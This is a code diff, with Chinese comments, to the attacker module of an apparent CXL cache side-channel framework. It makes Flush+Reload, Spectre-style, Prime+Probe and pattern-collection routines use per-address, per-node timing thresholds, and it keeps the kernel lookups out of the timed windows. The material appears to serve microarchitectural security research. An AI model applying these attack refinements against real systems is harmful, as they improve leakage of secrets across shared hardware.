@@ -16,6 +16,11 @@ static struct {
     int running;
 } attacker_state = {0};
 
+/* 按目标地址所在节点选择"是否在缓存中"的阈值；须在计时区间之外调用 */
+static uint64_t attacker_threshold(const void *addr) {
+    return cxl_get_addr_threshold(addr, CXL_CACHE_LEVEL_LLC);
+}
+
 /* ====== 初始化与清理 ====== */
 int cxl_attacker_init(int cpu_id) {
     if (cxl_bind_to_cpu(cpu_id) < 0) {
@@ -54,6 +59,9 @@ int cxl_attacker_flush_reload(void *victim_data, attack_result_t *result) {
     
     memset(result, 0, sizeof(attack_result_t));
     
+    /* 节点查询可能进入内核，放在 Flush 之前 */
+    uint64_t threshold = attacker_threshold(victim_data);
+    
     /* Flush 步骤：清除目标地址 */
     cxl_flush_clflush(victim_data);
     cxl_mfence();
@@ -65,7 +73,6 @@ int cxl_attacker_flush_reload(void *victim_data, attack_result_t *result) {
     uint64_t access_time = cxl_probe_access_time(victim_data, NULL);
     
     /* 判断命中/未命中 */
-    uint64_t threshold = cxl_get_timing_threshold();
     result->is_hit = (access_time < threshold) ? 1 : 0;
     result->victim_access_time = access_time;
     result->attacker_probe_time = access_time;
@@ -124,6 +131,8 @@ int cxl_attacker_spectre(void *gadget_addr, int condition, attack_result_t *resu
     
     memset(result, 0, sizeof(attack_result_t));
     
+    uint64_t threshold = attacker_threshold(gadget_addr);
+    
     /* 执行推测执行 gadget */
     uint64_t access_time = cxl_spectre_variant(
         &condition, 
@@ -131,7 +140,6 @@ int cxl_attacker_spectre(void *gadget_addr, int condition, attack_result_t *resu
         gadget_addr
     );
     
-    uint64_t threshold = cxl_get_timing_threshold();
     result->is_hit = (access_time < threshold) ? 1 : 0;
     result->attacker_probe_time = access_time;
     
@@ -187,8 +195,9 @@ int cxl_attacker_prime_probe(void **target_set, int set_size, attack_result_t *r
     
     memset(result, 0, sizeof(attack_result_t));
     
-    /* Prime 步骤：填充缓存 */
+    /* Prime 步骤：填充缓存，同时预热页 -> 节点缓存，Probe 阶段的阈值查询不再进入内核 */
     for (int i = 0; i < set_size; i++) {
+        cxl_addr_to_node(target_set[i]);
         cxl_probe_access_time(target_set[i], NULL);
     }
     cxl_mfence();
@@ -204,8 +213,7 @@ int cxl_attacker_prime_probe(void **target_set, int set_size, attack_result_t *r
         uint64_t access_time = cxl_probe_access_time(target_set[i], NULL);
         total_time += access_time;
         
-        uint64_t threshold = cxl_get_timing_threshold();
-        if (access_time < threshold) {
+        if (access_time < attacker_threshold(target_set[i])) {
             hit_count++;
         }
     }
@@ -341,7 +349,7 @@ int cxl_attacker_collect_pattern(void *victim_addr, int num_probes, uint8_t *pat
         return -1;
     }
     
-    uint64_t threshold = cxl_get_timing_threshold();
+    uint64_t threshold = attacker_threshold(victim_addr);
     
     for (int i = 0; i < num_probes; i++) {
         uint64_t access_time = cxl_probe_access_time(victim_addr, NULL);